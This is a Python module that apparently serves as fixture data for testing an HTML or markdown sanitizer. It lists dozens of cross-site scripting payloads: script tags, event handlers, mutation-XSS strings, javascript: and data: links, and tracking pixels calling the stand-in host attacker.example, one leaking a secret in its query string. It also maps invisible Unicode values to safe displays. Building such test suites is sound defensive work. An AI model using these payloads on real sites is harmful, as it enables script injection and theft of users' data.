"""Texts that attack a page which reads them as anything but words.

Each would call `steal()`, load something from attacker.example, or lead there by a link that does more than lead.
"""

from __future__ import annotations

_SCRIPTS = [
    "<script>steal()</script>",
    "<script src=//attacker.example/x.js></script>",
    "<ScRiPt>steal()</sCrIpT>",
    "</textarea><script>steal()</script>",
    "</title></style></noscript><script>steal()</script>",
    "<scr<script>ipt>steal()</scr</script>ipt>",
    "<!--><script>steal()</script-->",
    "<![CDATA[<script>steal()</script>]]>",
    "<script type=module>import '//attacker.example/x.js'</script>",
    "<template><script>steal()</script></template>",
]
_HANDLERS = [
    "<img src=x onerror=steal()>",
    '<img src="x" onerror="steal()" />',
    "<svg onload=steal()>",
    "<svg/onload=steal()//",
    "<svg><animate onbegin=steal() attributeName=x dur=1s>",
    "<svg><script>steal()</script></svg>",
    "<body onload=steal()>",
    "<input autofocus onfocus=steal()>",
    "<select autofocus onfocus=steal()><option>1</select>",
    "<textarea autofocus onfocus=steal()></textarea>",
    "<details open ontoggle=steal()><summary>more</summary></details>",
    "<video autoplay onloadstart=steal()><source src=//attacker.example/v></video>",
    "<audio src=//attacker.example/a onerror=steal()>",
    "<marquee onstart=steal()>moves</marquee>",
    "<div style='animation:page 1s' onanimationstart=steal()>x</div>",
    "<p onmouseover=steal()>over me</p>",
    "<math><mtext><img src=x onerror=steal()></mtext></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=steal()&gt;'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=steal() src>'>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
]
_LOADERS = [
    "<img src=https://attacker.example/pixel.png>",
    "<img srcset='https://attacker.example/pixel.png 1x'>",
    "<iframe src=javascript:steal()></iframe>",
    "<iframe srcdoc='<script>parent.steal()</script>'></iframe>",
    "<object data=javascript:steal()></object>",
    "<embed src=//attacker.example/x.swf>",
    "<link rel=stylesheet href=//attacker.example/x.css>",
    "<style>@import '//attacker.example/x.css';</style>",
    "<style>*{background:url(//attacker.example/x)}</style>",
    "<div style='background:url(//attacker.example/x)'>x</div>",
    "<base href=//attacker.example/>",
    "<meta http-equiv=refresh content='0;url=//attacker.example/'>",
    "<form action=//attacker.example/><button>Approve</button></form>",
    "<table background=//attacker.example/x><tr><td>x</table>",
    "<svg><image href=//attacker.example/x.svg></svg>",
    "<svg><use href=//attacker.example/x.svg#a></svg>",
]
_LINKS = [
    "[link](javascript:steal())",
    "[link](JaVaScRiPt:steal())",
    "[link](java\tscript:steal())",
    "[link](<java\nscript:steal()>)",
    "[link](&#106;avascript:steal())",
    "[link](&#x6A;&#x61;vascript&colon;steal())",
    "[link](javascript&#58;steal())",
    "[link](%6A%61vascript:steal())",
    "[link](\x01javascript:steal())",
    "[link]( javascript:steal())",
    "[link](data:text/html,<script>steal()</script>)",
    "[link](data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+)",
    "[link](vbscript:steal())",
    "[link](file:///etc/passwd)",
    "[link](blob:https://attacker.example/1)",
    "[link](//attacker.example/x)",
    "[link](/docs)",
    "[link]('onmouseover='steal())",
    '[link](https://attacker.example/"onmouseover="steal())',
    "[link][1]\n\n[1]: javascript:steal()",
    "<javascript:steal()>",
    "<https://attacker.example/'onclick='steal()>",
    "<a href=javascript:steal()>link</a>",
    "<a href='https://attacker.example/' ping='https://attacker.example/ping'>link</a>",
]
_PICTURES = [
    "![pixel](https://attacker.example/pixel.png?q=secret)",
    "![pixel](//attacker.example/pixel.png)",
    "![pixel](javascript:steal())",
    "![pixel](data:image/svg+xml,<svg/onload=steal()>)",
    '![" onerror="steal()](x)',
    '![pixel](https://attacker.example/x"onerror="steal())',
    "[![pixel](https://attacker.example/pixel.png)](javascript:steal())",
    "![pixel][1]\n\n[1]: https://attacker.example/pixel.png",
]
_MARKDOWN = [
    "`<img src=x onerror=steal()>`",
    "```html\n<img src=x onerror=steal()>\n```",
    '```"><img src=x onerror=steal()>\nx\n```',
    "| <img src=x onerror=steal()> | b |\n| --- | --- |\n| <svg onload=steal()> | [x](javascript:steal()) |",
    "- [ ] <img src=x onerror=steal()>",
    "> <img src=x onerror=steal()>",
    "# <img src=x onerror=steal()>",
    "1. <svg onload=steal()>",
    "**<img src=x onerror=steal()>**",
    "&lt;img src=x onerror=steal()&gt;",
    "&amp;lt;script&amp;gt;steal()&amp;lt;/script&amp;gt;",
    "\\<img src=x onerror=steal()>",
    "{{constructor.constructor('steal()')()}}",
    "<%= steal() %>",
    "__proto__: [x](javascript:steal())",
    "\u202e<img src=x onerror=steal()>",
    "\ufeff<img src=x onerror=steal()>",
]

# Values that read otherwise than they are, and how they are shown.
DECEPTIONS = {
    "\u202e4321": "U+202E4321",
    "43\u206721\u2069": "43U+206721U+2069",
    "1234\u200b\u200b": "1234U+200B × 2",
    "\u20661234": "U+20661234",
    "12\x0834": "12U+000834",
    "\u31641234\ufeff": "U+31641234U+FEFF",
    "1234\U000e0031": "1234U+E0031",
}

PAYLOADS = [*_SCRIPTS, *_HANDLERS, *_LOADERS, *_LINKS, *_PICTURES, *_MARKDOWN]
